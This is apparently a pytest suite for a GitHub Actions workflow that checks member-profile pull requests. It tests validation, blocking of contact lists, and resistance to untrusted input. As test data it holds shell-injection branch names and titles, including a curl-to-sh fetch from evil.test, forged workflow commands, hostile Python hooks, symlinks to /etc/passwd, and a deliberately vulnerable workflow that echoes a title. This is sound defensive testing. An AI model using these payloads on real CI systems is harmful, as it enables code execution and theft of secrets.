"""The workflow `check`, run for real: who is judged, by what, and what a stranger can make it do."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from scene import Link, Run, Scene, repository

REQUIRED = "business: Lee Plumbing\ntrade: plumber\nsummary: We fix pipes in old houses.\n"
ANN = f"name: Ann Lee\n{REQUIRED}github: ann-lee\ngithub_id: 11\n"
PERSON = {"login": "ann-lee", "id": 11, "type": "User"}
STRANGER = {"login": "mallory", "id": 66, "type": "User"}
STEPS = [
    "Check out",
    "Lay the proposal apart, take the generator from the base",
    "Set up the generator",
    "Check the profiles",
    "Stop lists of people, letters and logs",
    "Review the change",
    "List all findings",
    "Check settings and pages",
    "Build the site as it would be",
    "Keep the preview",
]


def check(scene: Scene, files: dict[str, str | bytes | Link | None], user: object = PERSON, **head: str) -> Run:
    event = scene.pull_request(files, user=user, **head)  # type: ignore[arg-type]
    return scene.act("pull_request", event, "check.yml", "refs/pull/7/merge")


def test_a_good_profile_passes_and_leaves_a_preview(scene: Scene) -> None:
    scene.cold = True
    ran = check(scene, {"members/ann-lee.yml": ANN})
    assert ran.code == 0
    assert ran.steps == dict.fromkeys(STEPS, "success")
    assert ran.commands == []
    assert "Ann Lee joins as a plumber" in ran.summary
    assert "All profiles are fine." in ran.summary
    page = (ran.artifacts / "preview" / "members" / "ann-lee" / "index.html").read_text()
    assert "We fix pipes in old houses." in page
    assert scene.hub.calls == []


FORGED = ["::error file=a,line=1::forged", "::set-output name=a::forged", "::add-mask::We", "::stop-commands::x"]


@pytest.fixture(scope="module")
def bad(new_scene: Callable[[], Scene]) -> Run:
    """A profile with slips, a file name with a line break, and workflow commands in other profiles, all at once."""
    about = "about: |\n" + "".join(f"  {each}\n" for each in [*FORGED, "##[error]forged"])
    files = {
        "members/ann-lee.yml": ANN.replace("plumber", "plumbr").replace("summary", "sumary"),
        "members/x\n::error title=forged::oh.yml": ANN.replace("Ann Lee", "Cy Poe"),
        "members/bo-lee.yml": ANN.replace("Ann Lee", "Bo Lee") + about,
        "members/al.yml": f"name: '{FORGED[0]}'\n{REQUIRED}",
    }
    return check(new_scene(), {**files})


def told_of(ran: Run, file: str) -> list[tuple[str, str, str]]:
    """The annotations of a file: what they are, their line and their code."""
    told = (each for each in ran.commands if each.facts.get("file") == file)
    return sorted((each.name, each.facts["line"], each.facts["title"]) for each in told)


def test_a_bad_profile_fails_at_its_line_and_leaves_no_preview(bad: Run) -> None:
    assert bad.code == 1
    assert told_of(bad, "members/ann-lee.yml") == [("error", "3", "P201"), ("error", "4", "P102")]
    assert "Did you mean plumber?" in bad.summary
    assert not any(bad.artifacts.iterdir())


@pytest.fixture(scope="module")
def strangers_edit(new_scene: Callable[[], Scene]) -> Run:
    """A stranger's fork, with a branch named like a form's, changes what somebody wrote."""
    scene = new_scene()
    old = scene.hub.file("main", "members/ben-okafor.yml")
    files = {"members/ben-okafor.yml": old.replace("look at", "inspect")}
    return check(scene, {**files}, user=STRANGER, branch="form/issue-3")


def test_a_stranger_who_edits_a_profile_asks_for_a_person_and_fails_nothing(strangers_edit: Run) -> None:
    assert strangers_edit.code == 0
    assert "A person should look" in strangers_edit.summary


def test_a_fork_whose_branch_is_named_like_a_forms_is_asked_about_too(strangers_edit: Run) -> None:
    assert "this change comes from mallory" in strangers_edit.summary


@pytest.mark.parametrize(("owner", "judge"), [("casco", "its own"), ("stranger", "the base's")])
def test_an_upgrade_by_somebody_who_may_push_is_judged_by_the_version_it_brings(
    scene: Scene, owner: str, judge: str
) -> None:
    action = scene.hub.file("main", ".github/actions/setup/action.yml")
    newer = action + "\n    - shell: bash\n      run: echo The newer version is there\n"
    files = {"generator/tradekin-9.0.0-py3-none-any.whl": "PK", ".github/actions/setup/action.yml": newer}
    ran = check(scene, files, branch=f"{owner}:upgrade")
    assert ran.code == 0
    assert ("The newer version is there" in ran.said) == (judge == "its own")
    assert any("is checked by that version" in each.text for each in ran.commands) == (judge == "its own")


ADDRESS = "        email: facilitator@example.com\n"


def test_a_hint_on_settings_that_a_stranger_does_not_touch_is_in_the_list_and_no_annotation(scene: Scene) -> None:
    settings = scene.hub.file("main", "mkdocs.yml")
    assert ADDRESS in settings
    scene.push({"mkdocs.yml": settings.replace(ADDRESS, "")})
    ran = check(scene, {"members/ann-lee.yml": ANN + "customers: [dragon keepers]\n"})
    assert ran.code == 0
    assert [(each.facts["file"], each.facts["title"]) for each in ran.commands] == [("members/ann-lee.yml", "P202")]
    assert "S002" in ran.summary.partition("All findings")[2]
    told = check(scene, {"mkdocs.yml": settings.replace(ADDRESS, "").replace("partners: 5", "partners: 4")}, PERSON)
    assert told.code == 0
    assert [each for each in told.commands if each.facts["file"] != "mkdocs.yml"] == []


LISTS = {
    "roster.csv": "Name,Company,E-mail,Mobile\r\nAnn Lee,Lee Plumbing,ann@lee.example.com,(207) 555-0110\r\n"
    "Bo Dai,Dai Loans,bo@dai.example.com,207-555-0111\r\n",
    "letters/to-ann.eml": "To: Ann Lee <ann@lee.example.com>\r\nSubject: May I introduce you?\r\n\r\nHello Ann,\r\n",
    "docs/book.vcf": "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bo Dai\r\nTEL;TYPE=CELL:+1 207 555 0111\r\nEND:VCARD\r\n",
}


def test_a_roster_an_address_book_and_a_letter_stop_the_check_and_no_detail_of_theirs_is_told(scene: Scene) -> None:
    ran = check(scene, {"members/ann-lee.yml": ANN, **LISTS})
    assert ran.code == 1
    assert ran.steps["Stop lists of people, letters and logs"] == "failure"
    told = {(each.name, each.facts["file"], each.facts["title"]) for each in ran.commands}
    assert told == {
        ("error", "roster.csv", "S005"),
        ("error", "docs/book.vcf", "S005"),
        ("error", "letters/to-ann.eml", "S006"),
    }
    assert any("Type git rm --cached -- roster.csv, and" in each.text for each in ran.commands)
    assert "S006" in ran.summary
    for detail in ("555-01", "555 01", "@lee.example.com", "@dai.example.com"):
        assert detail not in str(ran) + ran.summary
    assert not any(ran.artifacts.iterdir())


@pytest.fixture(scope="module")
def untidy(new_scene: Callable[[], Scene]) -> Scene:
    """A group on whose main branch lie lists of people, and a profile with an error."""
    scene = new_scene()
    scene.push({**LISTS, "members/eve-poe.yml": "name: Eve Poe\n"})
    return scene


@pytest.fixture(scope="module")
def beside_untidy(untidy: Scene) -> Run:
    """A good profile is proposed to that group."""
    return check(untidy, {"members/ann-lee.yml": ANN})


def test_a_list_that_lies_on_the_main_branch_stops_nobody_else(untidy: Scene, beside_untidy: Run) -> None:
    assert beside_untidy.code == 0
    assert beside_untidy.steps["Stop lists of people, letters and logs"] == "success"
    assert check(untidy, dict.fromkeys(LISTS)).code == 0


def test_the_error_of_somebody_else_on_the_main_branch_does_not_fail_a_pull_request(beside_untidy: Run) -> None:
    assert beside_untidy.code == 0
    assert {each.facts["file"] for each in beside_untidy.commands} == {"members/eve-poe.yml", *LISTS}
    assert not any(beside_untidy.artifacts.iterdir())


def test_a_fork_that_is_behind_removes_nobody(scene: Scene) -> None:
    old = scene.hub.git("rev-parse", "main")
    scene.push({"members/eve-poe.yml": f"name: Eve Poe\n{REQUIRED}".replace("Lee", "Poe")})
    head = scene.change({"members/ann-lee.yml": ANN}, onto=old)
    event = scene.opened(head, user=PERSON)
    ran = scene.act("pull_request", event, "check.yml", "refs/pull/7/merge")
    assert ran.code == 0
    assert "Nothing to fix" in ran.summary
    assert "leaves" not in ran.summary
    assert (ran.artifacts / "preview" / "members" / "eve-poe" / "index.html").is_file()


def test_a_file_name_with_a_line_break_is_told_and_gives_no_command(bad: Run) -> None:
    about = [each for each in bad.commands if each.text.endswith("Rename it to x-error-title-forged-oh.yml")]
    assert [each.name for each in about] == ["error"]


def test_commands_in_a_profile_are_not_given(bad: Run) -> None:
    about = [each for each in bad.commands if "Rename it to x-error" not in each.text]
    assert {(each.name, each.facts["file"].split("/")[0]) for each in about} <= {
        ("error", "members"),
        ("warning", "members"),
    }
    assert all(each.facts["title"][0] == "P" for each in about)
    assert bad.steps["List all findings"] == "success"


def test_the_name_of_a_branch_and_the_title_are_never_run_even_if_the_author_is_gone(scene: Scene) -> None:
    mark = scene.folder / "pwned"
    run = "touch${IFS}" + str(mark)
    branch = f"""a";curl${{IFS}}evil.test|sh;"$({run})`{run}`;{run};${{{{github.token}}}}"""
    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=None, branch=branch)
    event["pull_request"]["title"] = f"$({run}) `{run}` ; {run} ; ${{{{ github.token }}}}"
    ran = scene.act("pull_request", event, "check.yml", "refs/pull/7/merge")
    assert ran.code == 0
    assert not mark.exists()
    assert "curl" not in ran.said
    assert "***" not in ran.summary


def test_what_a_pull_request_changes_about_the_generator_is_not_run(scene: Scene) -> None:
    scene.cold = True
    mark = scene.folder / "pwned"
    evil = f"open('{mark}', 'w').write('run')\n"
    action = f"runs:\n  using: composite\n  steps: [{{shell: bash, run: touch {mark}}}]\n"
    settings = scene.hub.file("main", "mkdocs.yml").replace("Casco Bay Breakfast", "Mallory's")
    ran = check(
        scene,
        {
            "members/ann-lee.yml": ANN,
            "mkdocs.yml": f"hooks: [evil.py]\n{settings}",
            "evil.py": evil,
            "sitecustomize.py": evil,
            "tradekin.py": evil,
            "click.py": evil,
            "generator/tools/environment.py": evil,
            "generator/tradekin/__init__.py": evil,
            "overrides/main.html": "{{ 1/0 }}",
            "docs/index.md": "# Mallory's",
            ".github/actions/setup/action.yml": action,
            ".gitattributes": "* filter=evil diff=evil\n",
        },
    )
    assert ran.code == 0
    assert not mark.exists()
    assert "two things at once, please split it" in ran.summary
    assert "mkdocs.yml changes hooks" in ran.summary.replace("\\", "")
    page = (ran.artifacts / "preview" / "members" / "ann-lee" / "index.html").read_text()
    assert "We fix pipes" in page
    assert "Mallory" not in page


def test_settings_and_pages_that_are_only_text_are_shown_in_the_preview(scene: Scene) -> None:
    mark = scene.folder / "pwned"
    settings = scene.hub.file("main", "mkdocs.yml").replace("site_name: Casco Bay Breakfast", "site_name: Casco Lunch")
    page = scene.hub.file("main", "docs/guide/good-introduction.md") + "\n\nWe meet on the pier.\n"
    files = {
        "mkdocs.yml": settings,
        "docs/guide/good-introduction.md": page,
        "docs/assets/x.js": f"open('{mark}')",
        "overrides/main.html": "{{ 1/0 }}",
        "generator/tools/environment.py": f"open('{mark}', 'w')",
    }
    ran = check(scene, files, STRANGER)
    assert ran.code == 0
    assert not mark.exists()
    preview = ran.artifacts / "preview"
    text = (preview / "guide" / "good-introduction" / "index.html").read_text()
    assert "We meet on the pier." in text
    assert "Casco Lunch" in text
    assert not (preview / "assets" / "x.js").exists()


@pytest.fixture(scope="module")
def stopping(new_scene: Callable[[], Scene]) -> Run:
    """Two pages with each of which publishing would stop."""
    files = {
        "docs/guide/good-introduction.md": "# Hello\n\n[gone](nowhere.md)\n",
        "docs/guide/good-profile.md": b"# Hell\xff\n",
    }
    return check(new_scene(), {**files}, STRANGER)


@pytest.mark.parametrize(
    "path", ["docs/guide/good-introduction.md", "docs/guide/good-profile.md"], ids=["link", "bytes"]
)
def test_a_page_that_would_stop_publishing_is_told_before_the_merge(stopping: Run, path: str) -> None:
    assert stopping.code == 1
    assert stopping.steps["Check settings and pages"] == "failure"
    assert any((each.facts["file"], each.facts["title"]) == (path, "S004") for each in stopping.commands)


@pytest.mark.parametrize(
    ("old", "new", "code"), [("site_name: ", "site_name: [", "S001"), ("partners: 5", "partners: many", "S0")]
)
def test_settings_that_would_stop_publishing_are_told_before_the_merge(
    scene: Scene, old: str, new: str, code: str
) -> None:
    ran = check(scene, {"mkdocs.yml": scene.hub.file("main", "mkdocs.yml").replace(old, new)}, STRANGER)
    assert ran.code == 1
    assert ran.steps["Check settings and pages"] == "failure"
    assert any(each.facts["file"] == "mkdocs.yml" and each.facts["title"].startswith(code) for each in ran.commands)


@pytest.mark.parametrize(
    "files",
    [
        {
            "members/ann-lee.yml": Link("/etc/passwd"),
            "members/dina-roy.yml": Link("../mkdocs.yml"),
            "members/photos/ann-lee.png": Link("/etc/passwd"),
        },
        {"members/photos": Link("/etc"), "members/ann-lee.yml": ANN},
        {
            "members": Link("/etc"),
            "members/ben-okafor.yml": None,
            "members/cleo-marsh.yml": None,
            "members/dina-roy.yml": None,
        },
    ],
    ids=["profiles", "pictures", "the-folder"],
)
def test_a_link_is_refused_and_not_followed(scene: Scene, files: dict[str, str | bytes | Link | None]) -> None:
    ran = check(scene, files)
    assert ran.code == 1
    assert "root:" not in ran.said + ran.summary
    assert "site_name" not in ran.said + ran.summary
    assert ran.steps["Check the profiles"] == "failure"
    assert not any(ran.artifacts.iterdir())


def test_a_push_to_the_main_branch_is_checked_and_built(scene: Scene) -> None:
    commit = scene.push({"members/ann-lee.yml": ANN})
    event = {"ref": "refs/heads/main", "after": commit, "repository": repository()}
    ran = scene.act("push", event, "check.yml")
    assert ran.code == 0
    assert "Review the change" not in ran.steps
    assert (ran.artifacts / "preview" / "members" / "ann-lee" / "index.html").is_file()


def test_a_merge_queue_is_told_of_every_error(scene: Scene) -> None:
    commit = scene.push({"members/ann-lee.yml": "name: Ann Lee\n"})
    queued = {"head_sha": commit, "head_ref": "refs/heads/gh-readonly-queue/main/pr-7"}
    event = {"action": "checks_requested", "merge_group": queued}
    ran = scene.act("merge_group", {**event, "repository": repository()}, "check.yml")
    assert ran.code == 1
    assert {each.facts["file"] for each in ran.commands} == {"members/ann-lee.yml"}


def test_a_workflow_that_ran_a_title_would_be_caught_here(scene: Scene) -> None:
    flow = (
        "on: pull_request\npermissions: {}\njobs:\n  bad:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: echo ${{ github.event.pull_request.title }}\n      - run: echo ::error::forged\n"
    )
    scene.push({".github/workflows/bad.yml": flow})
    event = scene.pull_request({"members/ann-lee.yml": ANN}, user=PERSON)
    mark = scene.folder / "pwned"
    event["pull_request"]["title"] = f"$(touch${{IFS}}{mark})"
    ran = scene.act("pull_request", event, "bad.yml", "refs/pull/7/merge")
    assert mark.exists()
    assert [(each.name, each.text) for each in ran.commands] == [("error", "forged")]
